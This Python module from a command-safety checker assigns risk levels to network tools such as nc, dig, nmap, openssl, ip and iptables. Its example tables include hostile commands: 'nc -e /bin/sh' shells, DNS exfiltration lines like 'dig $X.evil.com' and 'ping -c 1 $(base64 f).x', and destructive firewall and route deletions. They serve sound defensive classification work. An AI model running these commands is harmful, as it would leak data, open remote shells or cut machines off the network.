"""Programs that ask the network or change this machine's part of it: dig, ping, nmap, nc, openssl, ip, iptables.

Sources: BIND's dig, iputils, nmap(1), ncat(1), openssl(1), ip(8), iptables(8), nmcli(1).
"""

from __future__ import annotations

import re
from dataclasses import replace

from cloud_assist.models import Risk
from cloud_assist.shell.findings import Code
from cloud_assist.shell.rules.base import Args, Call, Effect, Flags, Inner, Program, Rule, Ruling, names, ruled, verbs
from cloud_assist.shell.rules.sending import sends_output
from cloud_assist.shell.syntax import Part, Simple


def _netcat(call: Call) -> Ruling:
    args = Flags(
        values="-w -p -s -i -q -X -x -o -T -O -P -I -m -e -c --exec --sh-exec --lua-exec --output --hex-dump "
        "--proxy --wait",
        switches="-z -v -n -u -l -k -4 -6 -d -D -h -N -U -C -t -r",
    ).parse(call.args)
    if args.has("-e", "-c", "--exec", "--sh-exec", "--lua-exec"):
        return ruled(
            call,
            Risk.DESTRUCTIVE,
            "network.nc.exec",
            "It hands a program of this machine to whoever connects.",
            Code.NETWORK_CODE,
        )
    if args.unclear or args.unknown or args.expanding or args.has("-o", "--output", "--hex-dump"):
        return ruled(call, Risk.UNKNOWN, "network.nc.option")
    if args.has("-h"):
        return ruled(call, Risk.READ_ONLY, "network.nc.help")
    if args.has("-z") and not args.has("-l"):
        return ruled(call, Risk.READ_ONLY, "network.nc.probe", "It only asks whether the port is open.")
    if args.has("-l"):
        return ruled(call, Risk.MUTATING, "network.nc.listen", "It listens for connections.", Code.FOLLOWS)
    return ruled(
        call, Risk.MUTATING, "network.nc.send", "It sends what it is given to another machine.", Code.SENDS_DATA_OUT
    )


def _asked(call: Call) -> Ruling | None:
    """A name that is looked up reaches a stranger's server, with whatever was put into it."""
    batch = call.program in {"dig", "kdig"} and any(word.text[:2] == "-f" for word in call.args)
    piped = call.program in {"nslookup", "fping"} and _given_input(call)
    if batch or piped or any(sends_output(word) for word in call.args):
        return ruled(call, Risk.MUTATING, "network.ask.sends", "It sends what a file holds.", Code.SENDS_DATA_OUT)
    if any(re.search("\0.*\\.", word.text) for word in call.args):
        text = "Part of the name that it looks up is known only at run time, and reaches a stranger's server."
        return ruled(call, Risk.SENSITIVE, "network.ask.name", text, Code.SENDS_DATA_OUT)
    return None


_ASKS = Program(
    "network.ask",
    Risk.READ_ONLY,
    Flags(values="-f -c -p -t -q -x -w -i -s -n -m -W -I -Q -S -k -r -F -C -d --resolver"),
    custom=lambda call, args, verb: _asked(call),
    examples={
        Risk.READ_ONLY: (
            "dig +short x.com",
            "host x",
            "nslookup x 8.8.8.8",
            "ping -c 1 x",
            "traceroute x",
            "whois x.com",
            "mtr -r x",
            "ifstat",
            "dig $HOST",
        ),
        Risk.SENSITIVE: ("dig $X.evil.com", "nslookup $(hostname).x.io"),
        Risk.MUTATING: ("dig -f names", "cat f | nslookup", "nslookup < f"),
    },
)
_PING = Program(
    "network.ping",
    Risk.READ_ONLY,
    Flags(
        values="-c -i -w -W -s -t -I -M -p -Q -S -l -m -T",
        switches="-4 -6 -A -a -b -B -D -f -n -O -q -r -R -U -v -V -o",
    ),
    custom=lambda call, args, verb: (
        _asked(call)
        if args.has("-c", "-w", "-o", "-V") or _asked(call)
        else ruled(call, Risk.READ_ONLY, "network.ping", "`ping` only asks.", Code.FOLLOWS)
    ),
    effects=(Effect("-f", Risk.MUTATING, "`ping -f` floods the other machine."),),
    examples={Risk.READ_ONLY: ("ping x", "ping -c 3 x"), Risk.MUTATING: ("ping -f x", "ping -c 1 $(base64 f).x")},
)
_NMAP = Program(
    "network.scan",
    Risk.READ_ONLY,
    Flags(
        values="-p -oN -oX -oG -oA -oS -iL --script --script-args -T -D -S -e -g --top-ports --exclude -m "
        "--min-rate --max-rate --datadir -iR -b",
        single_dash=True,
    ),
    effects=(
        Effect(
            "-oN -oX -oG -oA -oS -oM -oJ -oH --append-output",
            Risk.MUTATING,
            "`nmap` writes its report to a file.",
            value="(?!-$).*",
        ),
        Effect(
            "--script --script-args --datadir -sC -A -b -sI -D -S --interactive --resume --servicedb --versiondb",
            Risk.UNKNOWN,
            "Scripts of `nmap` can attack what they find.",
        ),
    ),
    examples={
        Risk.READ_ONLY: ("nmap -p 22 host", "nmap -sn 10.0.0.0/24"),
        Risk.MUTATING: ("nmap -oN f host",),
        Risk.UNKNOWN: ("nmap --script vuln host", "nmap --interactive"),
    },
)
_CAPTURE = Program(
    "network.capture",
    Risk.READ_ONLY,
    Flags(
        values="-i -c -w -W -G -C -s -r -z -Z -E -F -y -B -f -Y -T -e -a -b -o -d -X",
        switches="-n -nn -v -vv -vvv -A -l -e -q -t -S -x -D -K -N -p -u -U -I -L",
    ),
    effects=(
        Effect("-w", Risk.MUTATING, "It writes what it captures to a file.", value="(?!-$).*"),
        Effect("-z -X", Risk.UNKNOWN, "`tcpdump -z` runs a program on each file."),
        Effect(
            "-O --export-objects --export-tls-session-keys --log-file --temp-dir", Risk.MUTATING, "It writes files."
        ),
    ),
    examples={
        Risk.READ_ONLY: ("tcpdump -i eth0 -c 10", "tcpdump -r f", "tshark -r f"),
        Risk.MUTATING: ("tcpdump -w f", "ngrep -O f x", "tshark -r f --export-objects http,d"),
        Risk.UNKNOWN: ("tcpdump -G 1 -w f -z ./x",),
    },
)
_OPENSSL_READS = (
    "version, ciphers, help, list, errstr, speed, s_client, s_time, verify, x509, crl, asn1parse, dgst, sha256, "
    "sha1, md5, prime, info, rand, ocsp, crl2pkcs7, passwd, sess_id, storeutl, nseq"
)
_OPENSSL = Program(
    "network.openssl",
    Risk.MUTATING,
    Flags(values="-in -out -connect -servername -CAfile -CApath -cert -key -keyout -inform -outform -passin "
        "-passout -days -subj -config -engine -provider -provider-path -signkey -CA -CAkey -host -port -starttls "
        "-cipher -checkend -sess_out -keylogfile -writerand -msgfile -alpn -name -passout -sign -verify -prverify "
        "-signature -rand -outdir -respout -reqout -CAserial -set_serial -extfile -addtrust -proxy",
          single_dash=True),
    verbs={path.strip(): Risk.READ_ONLY for path in _OPENSSL_READS.split(",")},
    effects=(
        Effect("-out -keyout -sess_out -keylogfile -writerand -respout -reqout -msgfile -CAcreateserial -CA -sign -signkey",
            Risk.MUTATING, "`openssl` writes a file or signs.", value="(?!/dev/null$|-$).*"),
        Effect("-engine -provider-path -config", Risk.UNKNOWN, "`openssl` would load code from elsewhere."),
        Effect("-provider", Risk.UNKNOWN, "`openssl` would load code from elsewhere.",
            value="(?!(?:default|legacy|fips|base|null)$).*"),
    ),
    custom=lambda call, args, verb: _openssl_key(call, args),
    help="-help --help",
    examples={
        Risk.READ_ONLY: ("openssl version", "openssl x509 -in cert.pem -noout -dates",
            "openssl s_client -connect x:443 -servername x", "openssl rsa -in k.pem -noout -check",
            "openssl dgst -sha256 f", "echo | openssl s_client -connect x:443"),
        Risk.SENSITIVE: ("openssl rsa -in key.pem", "openssl pkcs12 -in x.p12 -nodes"),
        Risk.MUTATING: ("cat f | openssl s_client -connect x:443", "openssl genrsa -out k.pem 2048",
            "openssl req -new -key k -out c",
            "openssl x509 -in a -out b", "openssl x509 -in a --out b", "openssl s_client -connect x:443 < f"),
        Risk.UNKNOWN: ("openssl dgst --engine ./x f", "openssl x509 -provider ./x -in a"),
    },
)  # fmt: skip


def _openssl(call: Call) -> Ruling:
    """`--out` is `-out` to openssl."""
    args = tuple(replace(w, text=w.text[1:]) if w.text[:2] == "--" and len(w.text) > 2 else w for w in call.args)
    return _OPENSSL(replace(call, args=args))


def _given_input(call: Call) -> bool:
    """Whether standard input is a file's or a program's text, other than plain words."""
    if any(r.operator == "<" and r.target.text != "/dev/null" for r in call.redirects):
        return True
    return bool(call.upstream) and not _plain_input(call.upstream[-1])


def _plain_input(part: Part) -> bool:
    """Whether a command before a pipe prints nothing but its own words (`echo Q | openssl s_client …`)."""
    return (
        isinstance(part, Simple) and bool(part.words) and part.words[0].text in {"echo", "printf", "true", ":", "sleep"}
    )


def _openssl_key(call: Call, args: Args) -> Ruling | None:
    verb = args.verbs[0] if args.operands else ""
    if verb == "s_client" and _given_input(call):
        text = "It sends what it is given to another machine."
        return ruled(call, Risk.MUTATING, "network.openssl.send", text, Code.SENDS_DATA_OUT)
    if verb not in {"rsa", "ec", "pkey", "dsa", "pkcs12", "pkcs8", "req", "enc", "pkcs7", "cms"} or args.has(
        "-out", "-new", "-newkey", "-export", "-x509"
    ):
        return None
    if args.has("-noout", "-pubout") or verb == "pkcs7" or (verb == "req" and args.has("-in")):
        return ruled(call, Risk.READ_ONLY, "network.openssl.show")
    if args.has("-in"):
        return ruled(call, Risk.SENSITIVE, "network.openssl.key", "It prints a private key.", Code.REVEALS_SECRET)
    return None


# An abbreviation is the first verb that it begins: `ip link s` is `ip link set`, so `s` alone is nobody's.
_SHOWS = frozenset({"show", "list", "lst", "ls", "sh", "get", "monitor", "help", "-h", "l", "li", "lis", "sho"})


def _ip(call: Call) -> Ruling:
    """`ip OBJECT [show]` reads; every other verb changes the network."""
    args = Flags(
        values="-n -netns -b -batch -f -family -rc -rcvbuf -l -loops",
        switches="-4 -6 -s -d -o -j -p -c -br -a -t -ts -h -r -stats -details -json -pretty -brief -oneline -color "
        "-all -V -B -M -I -N -D",
        single_dash=True,
    ).parse(call.args)
    verbs = args.verbs
    if args.has("-b", "-batch"):
        return ruled(call, Risk.UNKNOWN, "network.ip.batch", "More commands come from a file.")
    if args.unclear or args.expanding or args.unknown:
        return ruled(call, Risk.UNKNOWN, "network.ip.option")
    if len(verbs) > 1 and verbs[0].startswith("netns") and "exec" in verbs[1]:
        command = args.operands[2 if args.has("-a", "-all") else 3 :]
        return Ruling(Risk.READ_ONLY, "network.ip.netns", "`ip netns exec` runs a command.", inner=(Inner(command),))
    if (
        len(verbs) < 2
        or verbs[1] in _SHOWS
        or (verbs[0] in {"route", "r", "ro"} and verbs[1] == "get")
        or verbs[0] == "monitor"
    ):
        return ruled(call, Risk.READ_ONLY, "network.ip.show")
    if verbs[1] in {"flush", "f"} or verbs[1].startswith("del") or verbs[1] == "d":
        return ruled(
            call,
            Risk.DESTRUCTIVE,
            "network.ip.delete",
            "It removes network settings; the machine may become unreachable.",
        )
    return ruled(call, Risk.MUTATING, "network.ip.set", "It changes network settings.")


def _ifconfig(call: Call) -> Ruling:
    words = [word for word in call.words if word not in {"-a", "-s", "-v", "-L", "-m"}]
    if len(words) <= 1:
        return ruled(call, Risk.READ_ONLY, "network.interface.show")
    if "down" in words:
        text = "It takes a network interface down; the machine may become unreachable."
        return ruled(call, Risk.DESTRUCTIVE, "network.interface.down", text)
    return ruled(call, Risk.MUTATING, "network.interface.set", "It changes network settings.")


def _route(call: Call) -> Ruling:
    words = [word for word in call.words if not re.fullmatch(r"-[neCFvaAi46]+|get|default|[\d.]+", word)]
    if call.program == "route" and any(word in {"add", "del", "delete", "flush", "change"} for word in words):
        return ruled(
            call, Risk.DESTRUCTIVE if "add" not in words else Risk.MUTATING, "network.route.set", "It changes routes."
        )
    if call.program == "arp" and any(re.match(r"-[a-zA-Z]*[sdf]|--(?:set|delete|file)", word) for word in call.words):
        return ruled(call, Risk.MUTATING, "network.arp.set", "It changes the table of neighbours.")
    return ruled(call, Risk.READ_ONLY, "network.route.show")


_FIREWALL = Program(
    "network.firewall",
    Risk.MUTATING,
    Flags(values="-t --table -m -p -s -d -j -i -o -A -I -C -w -M --modprobe --dport --sport",
        switches="-L -S -n -v -x -F -X -Z -N -E -P -D -R --list --list-rules --line-numbers"),
    effects=(
        Effect("-L -S -C --list --list-rules --check", Risk.READ_ONLY, "", lowers=True),
        Effect("-M --modprobe", Risk.UNKNOWN, "It would run the program named to load modules."),
        Effect("-F -X -D -Z -P -R --flush --delete --delete-chain --zero --policy", Risk.DESTRUCTIVE,
            "It removes rules of the firewall."),
    ),
    examples={Risk.READ_ONLY: ("iptables -L -n -v", "iptables -S", "iptables -t nat -L"),
        Risk.MUTATING: ("iptables -A INPUT -p tcp -j ACCEPT",),
              Risk.UNKNOWN: ("iptables -M ./x -L", "iptables -L --modp=./x"),
              Risk.DESTRUCTIVE: ("iptables -F", "iptables -D INPUT 1", "iptables -L -Z", "iptables -P INPUT DROP")},
)  # fmt: skip
_FIREWALL_TOOLS = Program(
    "network.firewall-tool",
    Risk.MUTATING,
    verbs={"status": Risk.READ_ONLY, "show": Risk.READ_ONLY, "list": Risk.READ_ONLY, "version": Risk.READ_ONLY,
        "app list": Risk.READ_ONLY, "get": Risk.READ_ONLY,
           "flush": Risk.DESTRUCTIVE, "delete": Risk.DESTRUCTIVE, "reset": Risk.DESTRUCTIVE,
           "disable": Risk.DESTRUCTIVE},
    bare=Risk.READ_ONLY,
    effects=(Effect("-f -file --file", Risk.MUTATING, "It reads commands from a file or writes one."),),
    custom=lambda call, args, verb: (
        ruled(call, Risk.UNKNOWN, "network.firewall-tool.several", "It is given several commands in one.")
        if any(mark in word.text for word in args.operands for mark in ";\n")
        else ruled(call, Risk.READ_ONLY, "network.firewall-tool.ask")
        if not args.operands and args.options and all(re.match(r"--(?:list|get|query|state|info|zone|version)",
                o.name) for o in args.options)
        else ruled(call, Risk.MUTATING, "network.firewall-tool.set") if not args.operands and args.options else None
    ),
    examples={Risk.READ_ONLY: ("ufw status verbose", "nft list ruleset", "firewall-cmd --list-all",
            "firewall-cmd --zone=public --list-ports"), Risk.MUTATING: ("ufw allow 22",
            "firewall-cmd --add-port=80/tcp"),
              Risk.UNKNOWN: ("nft list ruleset \\; flush ruleset",),
              Risk.DESTRUCTIVE: ("nft flush ruleset", "ufw reset", "ufw disable")},
)  # fmt: skip
_ETHTOOL_READS = re.compile(
    r"-[ikSacglmdePTnuxIhw]|--(?:driver|show-[\w-]+|statistics|module-info|register-dump|eeprom-dump|phy-statistics"
    r"|get-[\w-]+|json|include-statistics|version|help)"
)


def _ethtool(call: Call) -> Ruling:
    """Most options of ethtool change the card; those that show it are few."""
    options = [word.text for word in call.args if word.text[:1] == "-"]
    if all(_ETHTOOL_READS.fullmatch(option) for option in options) and not any(w.opaque for w in call.args[:-1]):
        return ruled(call, Risk.READ_ONLY, "network.ethtool.show")
    return ruled(call, Risk.MUTATING, "network.ethtool.set", "It changes the network card.")


_NMCLI = Program(
    "network.nmcli",
    Risk.MUTATING,
    Flags(values="-f -m -c -g -w -e", switches="-t -p -a -s -o"),
    verbs=verbs(
        read_only="general status, device $, device status, device show, device wifi list, connection $, "
        "connection show, con show, con $, dev $, dev show, dev status, general $, networking connectivity, "
        "radio $, monitor",
        destructive="connection delete, con delete, networking off",
    ),
    bare=Risk.READ_ONLY,
    effects=(Effect("-s --show-secrets", Risk.SENSITIVE, "It shows passwords.", code=Code.REVEALS_SECRET),),
    examples={Risk.READ_ONLY: ("nmcli device status", "nmcli -t con show"), Risk.MUTATING: ("nmcli con up x",),
        Risk.DESTRUCTIVE: ("nmcli con delete x",)},
)  # fmt: skip
_MAIL = Program("network.mail", Risk.DESTRUCTIVE, examples={Risk.DESTRUCTIVE: ("mail -s hi a@b.c", "sendmail a@b")})

RULES: dict[str, Rule] = {
    "ssh-keyscan": _ASKS,
    **dict.fromkeys(
        (
            "nc",
            "ncat",
            "netcat",
        ),
        _netcat,
    ),
    **dict.fromkeys(
        names(
            "dig host nslookup kdig drill dog delv whois traceroute traceroute6 tracepath mtr ifstat fping tcpping "
            "arping dnstracer ipcalc sipcalc geoiplookup dns-sd avahi-browse testssl.sh sslscan bandwhich speedtest "
            "speedtest-cli"
        ),
        _ASKS,
    ),
    **dict.fromkeys(
        (
            "ping",
            "ping6",
        ),
        _PING,
    ),
    "nmap": _NMAP,
    **dict.fromkeys(
        (
            "tcpdump",
            "tshark",
            "ngrep",
        ),
        _CAPTURE,
    ),
    "openssl": _openssl,
    "ip": _ip,
    **dict.fromkeys(
        (
            "ifconfig",
            "iwconfig",
        ),
        _ifconfig,
    ),
    **dict.fromkeys(
        (
            "route",
            "arp",
        ),
        _route,
    ),
    **dict.fromkeys(
        (
            "iptables",
            "ip6tables",
            "ebtables",
            "arptables",
        ),
        _FIREWALL,
    ),
    **dict.fromkeys(
        (
            "nft",
            "ufw",
            "firewall-cmd",
            "ipset",
        ),
        _FIREWALL_TOOLS,
    ),
    "ethtool": _ethtool,
    "nmcli": _NMCLI,
    **dict.fromkeys(names("mail mailx sendmail mutt msmtp swaks"), _MAIL),
}
EXAMPLES = {
    Risk.READ_ONLY: (
        "nc -zv host 80", "ip addr", "ip -br a", "ip route show", "ip route get 1.1.1.1", "ifconfig", "ifconfig eth0",
        "route -n", "arp -a", "ssh-keyscan h", "ethtool eth0", "ethtool -i eth0",
    ),
    Risk.MUTATING: (
        "nc host 80", "nc -l 80", "ip link set eth0 up", "ifconfig eth0 up", "ip l s eth0 up", "ethtool -s eth0 speed 100",
    ),
    Risk.DESTRUCTIVE: (
        "nc -e /bin/sh h 1", "ip link delete eth0", "ifconfig eth0 down",
        "ip -all netns exec rm ls", "ip addr flush eth0", "ip route del default",
    ),
    Risk.UNKNOWN: (
        "ip -batch f", "ip -ba f",
    ),
}  # fmt: skip
